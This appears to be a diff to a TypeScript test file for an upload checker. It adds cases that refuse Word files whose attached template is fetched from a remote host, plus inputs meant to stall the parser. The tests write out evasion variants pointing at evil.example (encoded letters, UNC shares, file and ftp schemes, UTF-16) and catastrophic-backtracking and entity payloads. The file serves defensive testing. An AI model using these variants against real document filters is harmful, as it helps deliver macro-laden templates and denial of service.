@@ -4,6 +4,7 @@ import { join } from 'node:path'
 import fc from 'fast-check'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 
+import { buildZip } from '../../documents/spreadsheet/testing/build-zip.ts'
 import { ProblemError } from '../problem.ts'
 import { checkContent } from './check-content.ts'
 import { JPEG, ooxml, PDF, PNG, zipOf } from './testing/contents.ts'
@@ -131,6 +132,59 @@ describe('what is not taken', () => {
     ['nobody knows what', 'план.txt', Buffer.from([1, 2, 3, 0, 255]), 'other'],
   ])('%s', async (_, name, content, kind) => {
     expect(await verdict(name, content)).toBe(`file-kind-refused ${kind}`)
+  })
+
+  const template = (
+    attributes: string,
+    list = `<Relationships><Relationship ${attributes}/></Relationships>`,
+  ) => ooxml('word', { 'word/_rels/settings.xml.rels': list })
+  const TYPE = 'Type="http://x/relationships/attachedTemplate"'
+  const REMOTE = `${TYPE} Target="http://evil.example/t.dotm"`
+  it.each([
+    ['in the order of another program', `Target="HTTPS://evil.example/t.dotm" ${TYPE}`],
+    ['in single quotes', REMOTE.replaceAll('"', "'")],
+    ['with a letter as its number', `${TYPE} Target="&#x68;ttp://evil.example/t.dotm"`],
+    ['on a share', `${TYPE} Target="\\\\evil.example\\t.dotm"`],
+    ['on a share, as a file', `${TYPE} Target="file:////evil.example/t.dotm"`],
+    ['by another way', `${TYPE} Target="ftp://evil.example/t.dotm"`],
+  ])('a template fetched from elsewhere, %s', async (_, attributes) => {
+    expect(await verdict('приказ.docx', template(attributes))).toBe('file-kind-refused macros')
+  })
+
+  it('a template fetched from elsewhere, in two-byte letters', async () => {
+    const list = utf16(`<Relationships><Relationship ${REMOTE}/></Relationships>`)
+    const types = '<Types><Override ContentType="wordprocessingml.document.main+xml"/></Types>'
+    const parts = [
+      { name: '[Content_Types].xml', content: types },
+      { name: 'word/_rels/settings.xml.rels', content: list },
+    ]
+    expect(await verdict('приказ.docx', buildZip(parts))).toBe('file-kind-refused macros')
+  })
+
+  it.each(['file:///C:\\Users\\Ann\\Normal.dotm', 'C:\\Normal.dotm', 'Normal.dotm'])(
+    'but a template of this machine is: %s',
+    async target => {
+      expect(await verdict('приказ.docx', template(`${TYPE} Target="${target}"`))).toMatch(/document$/)
+    },
+  )
+
+  // A pattern that looks ahead from every tag takes minutes for the first of these, and serves nobody meanwhile.
+  const filled = (size: number, words: string) => words.repeat(Math.ceil(size / words.length)).slice(0, size)
+  it.each([
+    ['a megabyte of open tags', filled(2 ** 20, '<Relationship '), 'damaged'],
+    ['open tags within the limit', filled(60_000, '<Relationship '), 'damaged'],
+    ['tags inside one another', `${filled(60_000, '<Relationship>')}`, 'damaged'],
+    ['one tag of attributes', `<Relationship ${filled(60_000, `${TYPE} `)}`, 'damaged'],
+    ['entities that unfold', '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>', 'damaged'],
+    [
+      'whole tags, the last of them remote',
+      `<R>${'<Relationship Type="a/attachedTemplate"/>'.repeat(1400)}<Relationship ${REMOTE}/></R>`,
+      'macros',
+    ],
+  ])('a list of templates made to tire: %s', async (_, list, kind) => {
+    const started = performance.now()
+    expect(await verdict('приказ.docx', template('', list))).toBe(`file-kind-refused ${kind}`)
+    expect(performance.now() - started).toBeLessThan(2000)
   })
 
   it.each([
